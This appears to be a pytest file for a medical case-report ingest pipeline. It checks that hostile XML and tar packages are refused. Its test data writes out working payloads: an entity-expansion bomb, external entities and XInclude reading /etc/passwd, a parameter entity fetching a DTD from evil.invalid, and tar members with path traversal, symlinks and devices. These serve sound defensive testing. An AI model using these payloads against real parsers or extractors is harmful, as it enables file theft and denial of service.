"""XML bombs, external entities, archives that lead outside, links: refused with a reason, nothing read or written."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from articles import DOCTYPE, ONE_PATIENT, section

from ingest.errors import RejectedRecord
from ingest.sources.pmc import CaseReports
from ingest.sources.pmc.hardened_xml import parse_xml
from ingest.sources.pmc.package import unpack
from ingest.sources.source import Found, Rejection, SourceCase

_TENFOLD = "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghz", strict=True)
)
BOMB = f'<!DOCTYPE article [<!ENTITY a "aaaaaaaaaa">{_TENFOLD}]><article><body><p>&z;</p></body></article>'
OUTSIDE = (
    """<!DOCTYPE article [<!ENTITY secret SYSTEM "file://{path}">]><article><body><p>&secret;</p></body></article>"""
)
PARAMETER = """<!DOCTYPE article [<!ENTITY % all SYSTEM "http://evil.invalid/all.dtd"> %all;]><article/>"""


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (BOMB, "declares entities|not well-formed XML"),
        (OUTSIDE.format(path="/etc/passwd"), "declares entities"),
        (PARAMETER, "declares entities|not well-formed XML"),
        ("<article>" * 300 + "</article>" * 300, "not well-formed XML"),
        ("<article><body>", "not well-formed XML at line 1"),
        ("", "not well-formed XML"),
        ("\x00\x01", "not well-formed XML"),
    ],
)
def test_t10_hostile_xml_is_refused_at_once(text: str, reason: str) -> None:
    start = time.monotonic()
    with pytest.raises(RejectedRecord, match=reason) as caught:
        parse_xml(text.encode(), "article.xml")
    assert time.monotonic() - start < 2
    assert "root:" not in str(caught.value)


def test_t10_a_bomb_in_utf_16_is_refused_too() -> None:
    with pytest.raises(RejectedRecord, match=r"declares entities|not well-formed XML"):
        parse_xml(BOMB.encode("utf-16"), "article.xml")


def test_t10_the_dtd_of_a_doctype_is_never_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.socket", None)
    assert DOCTYPE in ONE_PATIENT
    assert parse_xml(ONE_PATIENT.encode(), "article.xml").tag == "article"


def test_an_entity_of_html_is_read_as_html_has_it(article_of: Callable) -> None:
    text = f"{DOCTYPE}<article><body>{section('Case', 'A&nbsp;45&ndash;year-old man.')}</body></article>"
    assert article_of(text).text.endswith("A 45\u2013year-old man.")


def test_an_included_file_is_not_read(article_of: Callable) -> None:
    inclusion = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    assert "root" not in article_of(f"<article><body><p>A 45-year-old man {inclusion} came.</p></body></article>").text


def package(path: Path, *members: tuple[str, bytes] | tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w:gz") as written:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                written.addfile(member)
            else:
                info = tarfile.TarInfo(member[0])
                info.size = len(member[1])
                written.addfile(info, io.BytesIO(member[1]))
    return path


def linked(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


@pytest.mark.parametrize(
    "member",
    [
        ("../escaped.xml", b"x"),
        ("/tmp/escaped.xml", b"x"),
        ("a/../../escaped.xml", b"x"),
        ("..\\escaped.xml", b"x"),
        linked("a.xml", "/etc/passwd", tarfile.SYMTYPE),
        linked("a.xml", "b.xml", tarfile.LNKTYPE),
        linked("a.xml", "", tarfile.CHRTYPE),
        linked("a.xml", "", tarfile.FIFOTYPE),
    ],
)
def test_t7_a_package_that_leads_outside_is_refused_and_nothing_is_written_there(member, tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    with pytest.raises(RejectedRecord, match=r"outside its folder|link or device"):
        unpack(package(tmp_path / "p.tar.gz", member), inside)
    assert [path.name for path in tmp_path.rglob("*")] == ["inside", "p.tar.gz"] or not list(inside.iterdir())
    assert not list(tmp_path.rglob("escaped.xml"))


def test_t7_a_package_that_unpacks_to_too_much_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ingest.sources.pmc.package.MAX_UNPACKED_BYTES", 1_000_000)
    bomb = package(tmp_path / "p.tar.gz", ("a.xml", b"\0" * 2_000_000))
    assert bomb.stat().st_size < 10_000
    with pytest.raises(RejectedRecord, match="unpacks to more than"):
        unpack(bomb, tmp_path)


@pytest.mark.parametrize(
    "content",
    [b"", b"no archive", gzip.compress(b"no archive" * 99, mtime=0), b"\x1f\x8b\x08broken"],
    ids=["empty", "text", "packed text", "broken"],
)
def test_t7_a_damaged_package_is_quarantined(content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "p.tar.gz"
    path.write_bytes(content)
    (found,) = list(CaseReports().read(str(path)).found)
    assert isinstance(found, Rejection)
    assert found.reason in ("is not a valid package. Fetch it again.", "holds no article.")


def test_a_member_that_is_neither_article_nor_image_is_left_out(tmp_path: Path) -> None:
    unpack(package(tmp_path / "p.tar.gz", ("run.sh", b"x"), ("d/a.nxml", b"x"), ("d/a.jpg", b"x")), tmp_path)
    assert sorted(path.name for path in tmp_path.rglob("*.*")) == ["a.jpg", "a.nxml", "p.tar.gz"]


def found_in(folder: Path) -> list[Found]:
    return list(CaseReports().read(str(folder)).found)


@pytest.mark.skipif(os.name == "nt", reason="links need rights on Windows")
def test_t6_a_link_to_an_article_and_a_pipe_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.xml").write_text(ONE_PATIENT)
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "linked.xml").symlink_to(outside / "secret.xml")
    (folder / "more").symlink_to(outside)
    os.mkfifo(folder / "pipe.xml")
    assert {(one.place, one.reason) for one in found_in(folder) if isinstance(one, Rejection)} == {
        ("linked.xml", "is not a regular file: links and devices are not followed."),
        ("pipe.xml", "is not a regular file: links and devices are not followed."),
    }


def test_t5_a_figure_whose_name_is_a_path_reads_no_other_file(tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(b"x")
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.xml").write_text(ONE_PATIENT.replace('"scan1"', '"../secret.png"').replace('"scan2"', '"/etc/passwd"'))
    (case,) = (one for one in found_in(folder) if isinstance(one, SourceCase))
    assert case.files == {}
    assert set(case.ambiguous.values()) == {
        "its image file 'secret.png' is missing beside the article",
        "its image file 'passwd' is missing beside the article",
    }


@pytest.mark.parametrize("unit", ["a-", "1-", "(", "(a, ", "1 ", "his ", "45-year-old man ", "the age of ", "and "])
def test_t34_long_hostile_text_is_read_in_time(unit: str, article_of: Callable, cases_of: Callable) -> None:
    from articles import figure, jats

    long = unit * (40_000 // len(unit))
    start = time.monotonic()
    cases_of(jats(section("Case report", f"A 45-year-old man was seen. {long}"), floats=figure(1, long)))
    assert time.monotonic() - start < 10
